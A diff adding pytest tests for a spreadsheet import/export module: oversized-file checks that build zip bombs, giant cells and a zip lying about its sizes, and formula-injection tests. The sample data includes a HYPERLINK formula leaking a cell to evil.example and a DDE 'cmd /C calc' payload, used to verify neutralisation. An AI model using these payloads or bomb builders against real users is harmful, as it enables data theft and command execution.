@@ -4,15 +4,22 @@ from __future__ import annotations
 
 import csv
 import io
+import struct
+import tracemalloc
+import zipfile
+from collections.abc import Callable, Iterable
 from datetime import date, datetime
 from typing import Any
 
 import openpyxl
 import pytest
 
-from gis.errors import InvalidInput
+from gis.errors import InvalidInput, TooLarge
 from gis.ledger.tabular import (
     INSTRUCTIONS_SHEET,
+    MAX_CELL_CHARS,
+    MAX_FILE_BYTES,
+    MAX_GRID_ROWS,
     TEMPLATES,
     Parsed,
     normalize_heading,
@@ -446,3 +453,249 @@ def test_too_long_text() -> None:
     parsed = read_table(xlsx(RES_HEAD, res("王", KNOWN_ID, room="1" * 41)), "a.xlsx", "residents")
     assert where(parsed) == [(2, "室号")]
     assert "40" in parsed.errors[0].reason
+
+
+# --------------------------------------------------------------------------- oversized files
+# Each attack file is built here from a few KB of deflated XML (deflate packs a repeated
+# character about 1000:1), never committed.
+
+SHEET = "xl/worksheets/sheet1.xml"
+_SHEET_HEAD = (
+    b'<?xml version="1.0" encoding="UTF-8"?>'
+    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+)
+
+
+def inline_row(n: int, *texts: str) -> bytes:
+    """One sheet row of inline strings, from column A."""
+    cells = "".join(
+        f'<c r="{openpyxl.utils.get_column_letter(i)}{n}" t="inlineStr"><is><t>{t}</t></is></c>'
+        for i, t in enumerate(texts, start=1)
+    )
+    return f'<row r="{n}">{cells}</row>'.encode()
+
+
+def xlsx_with_sheet(rows_xml: Iterable[bytes], shared: str = "") -> bytes:
+    """An .xlsx whose first sheet holds ``rows_xml``, deflated while it is written.
+
+    ``shared``: the ``<si>`` items of a sharedStrings.xml (as Excel writes text cells).
+    """
+    src = zipfile.ZipFile(io.BytesIO(xlsx(["x"])))
+    ns = "http://schemas.openxmlformats.org/"
+    edits = {
+        "xl/_rels/workbook.xml.rels": (
+            "</Relationships>",
+            f'<Relationship Id="rIdS" Type="{ns}officeDocument/2006/relationships/sharedStrings"'
+            ' Target="sharedStrings.xml"/></Relationships>',
+        ),
+        "[Content_Types].xml": (
+            "</Types>",
+            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.'
+            'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
+        ),
+    }
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        if shared:
+            z.writestr(
+                "xl/sharedStrings.xml",
+                f'<sst xmlns="{ns}spreadsheetml/2006/main">{shared}</sst>',
+            )
+        for info in src.infolist():
+            if info.filename != SHEET:
+                part = src.read(info).decode()
+                if shared and info.filename in edits:
+                    part = part.replace(*edits[info.filename])
+                z.writestr(info, part)
+                continue
+            with z.open(SHEET, "w") as part:
+                part.write(_SHEET_HEAD)
+                for chunk in rows_xml:
+                    part.write(chunk)
+                part.write(b"</sheetData></worksheet>")
+    return out.getvalue()
+
+
+def big_cell_xlsx(megabytes: int) -> bytes:
+    """A residents sheet whose cell A2 is an inline string of ``megabytes`` MB."""
+    mb = b"A" * 2**20
+
+    def rows() -> Iterable[bytes]:
+        yield inline_row(1, "姓名", "身份证号", "楼栋", "室号")
+        yield b'<row r="2"><c r="A2" t="inlineStr"><is><t>'
+        yield from (mb for _ in range(megabytes))
+        yield b"</t></is></c></row>"
+
+    return xlsx_with_sheet(rows())
+
+
+def declare_size(data: bytes, member: str, size: int) -> bytes:
+    """The zip with its central directory lying about the unpacked size of ``member``."""
+    out = bytearray(data)
+    i = out.index(b"PK\x01\x02")
+    while out[i + 46 : i + 46 + struct.unpack_from("<H", out, i + 28)[0]] != member.encode():
+        i = out.index(b"PK\x01\x02", i + 4)
+    struct.pack_into("<I", out, i + 24, size)
+    return bytes(out)
+
+
+def peak_mb(read: Callable[[], Any]) -> float:
+    """Peak memory (MB) Python allocated while ``read`` ran."""
+    tracemalloc.start()
+    try:
+        read()
+    except TooLarge:
+        pass
+    finally:
+        peak = tracemalloc.get_traced_memory()[1]
+        tracemalloc.stop()
+    return peak / 2**20
+
+
+def test_xlsx_cell_of_40_mb_is_refused_before_it_is_read() -> None:
+    # under the 50 MB unpacked cap: the streamed scan finds the long text
+    data = big_cell_xlsx(40)
+    assert len(data) < 100_000
+    with pytest.raises(TooLarge, match="A2") as err:
+        read_table(data, "a.xlsx", "residents")
+    assert f"{MAX_CELL_CHARS}" in str(err.value) and "shorten it" in str(err.value)
+    assert peak_mb(lambda: read_table(data, "a.xlsx", "residents")) < 20
+
+
+def test_xlsx_cell_over_the_cap_is_refused_inline_shared_or_in_runs() -> None:
+    long = "长" * (MAX_CELL_CHARS + 1)
+    with pytest.raises(TooLarge, match="B2"):
+        read_table(xlsx_with_sheet([inline_row(2, "x", long)]), "a.xlsx", "residents")
+    row = b'<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
+    fine = xlsx_with_sheet([row], shared="<si><t>姓名</t></si><si><t>身份证号</t></si>")
+    assert read_table(fine, "a.xlsx", "residents").header_row is None  # read: 楼栋 is missing
+    shared = xlsx_with_sheet([row], shared=f"<si><t>姓名</t></si><si><t>{long}</t></si>")
+    with pytest.raises(TooLarge, match=r"\(a cell is longer"):
+        read_table(shared, "a.xlsx", "residents")
+    half = "长" * (MAX_CELL_CHARS // 2 + 1)
+    runs = f"<r><t>{half}</t></r><r><t>{half}</t></r>"  # rich text: one value of two runs
+    row = f'<row r="2"><c r="A2" t="inlineStr"><is>{runs}</is></c></row>'.encode()
+    with pytest.raises(TooLarge, match="A2"):
+        read_table(xlsx_with_sheet([row]), "a.xlsx", "residents")
+    # at the cap the cell is read, and the column's own limit reports it
+    at_cap = xlsx(RES_HEAD, res("王", KNOWN_ID, room="1" * MAX_CELL_CHARS))
+    assert where(read_table(at_cap, "a.xlsx", "residents")) == [(2, "室号")]
+
+
+def test_xlsx_zip_bomb_is_refused_without_inflating_it() -> None:
+    bomb = xlsx_with_sheet([inline_row(1, "姓名"), b" " * (60 * 2**20)])
+    assert len(bomb) < 200_000
+    with pytest.raises(TooLarge, match="50 MB"):
+        read_table(bomb, "a.xlsx", "residents")
+    # declared sizes can lie: the part is not inflated past what it claims, nor kept
+    liar = declare_size(bomb, SHEET, 1_000)
+    assert peak_mb(lambda: read_table(liar, "a.xlsx", "residents")) < 20
+    parsed = read_table(liar, "a.xlsx", "residents")
+    assert parsed.rows == [] and [e.row for e in parsed.errors] == [0]
+
+
+def test_xlsx_with_more_rows_than_the_cap() -> None:
+    def rows(n: int) -> Iterable[bytes]:
+        yield inline_row(1, *RES_HEAD)
+        yield from (inline_row(r, "王") for r in range(2, n + 1))
+
+    parsed = read_table(xlsx_with_sheet(rows(MAX_GRID_ROWS)), "a.xlsx", "residents")
+    assert parsed.total_rows == MAX_GRID_ROWS - 1
+    with pytest.raises(TooLarge, match=f"{MAX_GRID_ROWS} 行.*split the file"):
+        read_table(xlsx_with_sheet(rows(MAX_GRID_ROWS + 1)), "a.xlsx", "residents")
+
+
+def test_csv_of_a_million_short_rows_stops_at_the_cap() -> None:
+    line = b"a,,,\r\n"
+    data = b",".join(h.encode() for h in RES_HEAD) + b"\r\n" + line * (MAX_FILE_BYTES // 7)
+    assert len(data) <= MAX_FILE_BYTES
+    with pytest.raises(TooLarge, match="20010 行") as err:
+        read_table(data, "a.csv", "residents")
+    assert "more than 20,010 rows: split the file" in str(err.value)
+    # the text (10 MB) is decoded once; the rows before the cap are all that is kept
+    assert peak_mb(lambda: read_table(data, "a.csv", "residents")) < 60
+    at_cap = csv_bytes(RES_HEAD, *[["王"]] * (MAX_GRID_ROWS - 1))
+    assert read_table(at_cap, "a.csv", "residents").total_rows == MAX_GRID_ROWS - 1
+
+
+def test_csv_cell_over_the_cap() -> None:
+    for size in (MAX_CELL_CHARS + 1, 200_000):  # the second is over csv's own field limit
+        data = csv_bytes(RES_HEAD, res("王", KNOWN_ID), res("李", MAN, room="1" * size))
+        with pytest.raises(TooLarge, match=r"第 3 行.*a cell in row 3"):
+            read_table(data, "a.csv", "residents")
+
+
+def test_file_over_the_byte_cap() -> None:
+    with pytest.raises(TooLarge, match="10 MB"):
+        read_table(b"a" * (MAX_FILE_BYTES + 1), "a.csv", "residents")
+
+
+# --------------------------------------------------------------------------- formula injection
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+FORMULAS = [
+    {
+        "name": '=HYPERLINK("http://evil.example/?"&D2,"点击")',
+        "kind": "shop",
+        "contact_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "phone": "13912345678",
+        "address": "+1+1",
+        "notes": "-2+3",
+    },
+    {
+        "name": "'=已经带引号",  # quotes before a trigger get one more, to read back as is
+        "kind": "other",
+        "contact_name": "''+两个引号",
+        "phone": None,
+        "address": "'普通引号",  # not before a trigger: left alone
+        "notes": "=\t\n多行",  # an .xlsx keeps no \r (XML reads \r\n as \n)
+    },
+]
+PEOPLE = [{**SAMPLES["residents"][0], "name": "-张三", "room": "-1", "notes": "@备注"}]
+
+
+def test_csv_export_neutralises_formulas() -> None:
+    data = write_table("organisations", FORMULAS, "csv")
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    assert rows[1] == [
+        '\'=HYPERLINK("http://evil.example/?"&D2,"点击")',
+        "商户",
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "13912345678",
+        "'+1+1",
+        "'-2+3",
+    ]
+    assert rows[2] == ["''=已经带引号", "其他", "'''+两个引号", "", "'普通引号", "'=\t\n多行"]
+    for trigger in ("\t", "\r"):
+        one = write_table("organisations", [{**FORMULAS[1], "notes": f"{trigger}=1+1"}], "csv")
+        cells = list(csv.reader(io.StringIO(one.decode("utf-8-sig"), newline="")))[1]
+        assert cells[-1] == f"'{trigger}=1+1"
+    data = write_table("residents", PEOPLE, "csv")
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    assert rows[1][0] == "'-张三" and rows[1][6] == "'-1" and rows[1][-1] == "'@备注"
+    assert rows[1][3] == KNOWN_ID and rows[1][4] == "13812345678"  # numbers stay in clear
+    for row in rows:
+        assert not any(cell.startswith(TRIGGERS) for cell in row)
+
+
+def test_csv_with_neutralised_formulas_reads_back_unchanged() -> None:
+    data = write_table("organisations", FORMULAS, "csv")
+    parsed = read_table(data, "o.csv", "organisations")
+    assert parsed.errors == []
+    assert stripped(parsed) == FORMULAS
+    assert write_table("organisations", stripped(parsed), "csv") == data
+    data = write_table("residents", PEOPLE, "csv")
+    assert stripped(read_table(data, "r.csv", "residents")) == PEOPLE
+
+
+def test_xlsx_export_writes_formulas_as_text() -> None:
+    data = write_table("organisations", FORMULAS, "xlsx")
+    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
+    for r in (2, 3):
+        for cell in ws[r]:
+            if cell.value is not None:
+                assert cell.data_type == "s", (cell.coordinate, cell.value)
+    assert ws["A2"].value == FORMULAS[0]["name"]  # as written: a text cell needs no quote
+    sheet = zipfile.ZipFile(io.BytesIO(data)).read(SHEET)
+    assert b"<f>" not in sheet and b"<f " not in sheet
+    assert stripped(read_table(data, "o.xlsx", "organisations")) == FORMULAS
